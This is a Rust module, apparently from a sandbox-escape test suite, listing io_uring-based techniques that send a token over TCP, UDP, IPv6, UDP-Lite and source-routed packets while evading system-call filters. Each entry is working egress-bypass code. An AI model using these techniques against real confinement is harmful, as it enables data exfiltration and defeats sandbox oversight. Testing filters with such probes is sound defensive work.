//! io_uring: the same calls, made by the kernel on the program's behalf, past every filter of system calls.

use std::os::fd::AsRawFd as _;

use super::{Attack, wire};
use crate::attack::{
    aim::Aim,
    call::{Done, Sock},
    ring::Ring,
};

fn connect(polled: bool, aim: &Aim<'_>) -> Done {
    let mut ring = Ring::new(polled)?;
    let socket = Sock::tcp4()?;
    ring.connect(&socket, &aim.to4().into())?;
    ring.send(socket.as_raw_fd(), &aim.token())
}

fn message(polled: bool, aim: &Aim<'_>) -> Done {
    let mut ring = Ring::new(polled)?;
    ring.send_message(&Sock::udp4()?, &aim.to4().into(), &aim.token(), 0)
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("g-connect", "connect of a ring", |aim| connect(false, aim)),
    wire("g-connect-polled", "connect by a ring's kernel thread", |aim| connect(true, aim)),
    wire("g-socket", "socket, connect and send of a ring", |aim| {
        let mut ring = Ring::new(false)?;
        let socket = ring.socket(libc::AF_INET, libc::SOCK_STREAM)?;
        ring.connect(&socket, &aim.to4().into())?;
        ring.send(socket.as_raw_fd(), &aim.token())
    }),
    wire("g-chain", "connect and send of a ring in one chain", |aim| {
        Ring::new(false)?.chain(&Sock::tcp4()?, &aim.to4().into(), &aim.token())
    }),
    wire("g-message", "sendmsg of a ring", |aim| message(false, aim)),
    wire("g-message-polled", "sendmsg by a ring's kernel thread", |aim| message(true, aim)),
    wire("g-message6", "sendmsg of a ring over IPv6", |aim| {
        Ring::new(false)?.send_message(&Sock::udp6()?, &aim.to6().into(), &aim.token(), 0)
    }),
    wire("g-fastopen", "sendmsg of a ring with MSG_FASTOPEN", |aim| {
        Ring::new(false)?.send_message(&Sock::tcp4()?, &aim.to4().into(), &aim.token(), libc::MSG_FASTOPEN)
    }),
    wire("g-send-to", "send of a ring with an address", |aim| {
        Ring::new(false)?.send_to(&Sock::udp4()?, &aim.to4().into(), &aim.token())
    }),
    wire("g-zero-copy", "send of a ring without a copy", |aim| {
        Ring::new(false)?.send_zero_copy(&Sock::udp4()?, &aim.to4().into(), &aim.token())
    }),
    wire("g-peer", "write of a ring to a socket with a peer", |aim| {
        let mut ring = Ring::new(false)?;
        let socket = Sock::udp4()?;
        ring.connect(&socket, &aim.to4().into())?;
        ring.write(socket.as_raw_fd(), &aim.token())
    }),
    wire("g-option", "source route set by a ring", |aim| {
        let mut route = vec![1, 131, 7, 4];
        route.extend(aim.bad4().octets());
        let socket = Sock::udp4()?;
        Ring::new(false)?.option(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &route)?;
        socket.send_to(aim.good4(), &aim.token())
    }),
    wire("g-udplite", "UDP-Lite socket of a ring", |aim| {
        let mut ring = Ring::new(false)?;
        let entry =
            io_uring::opcode::Socket::new(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE).build();
        let fd = ring.perform("uring_socket", &entry)?;
        let socket = Sock::from(crate::attack::call::owned(fd.into()));
        ring.send_to(&socket, &aim.to4().into(), &aim.token())
    }),
];
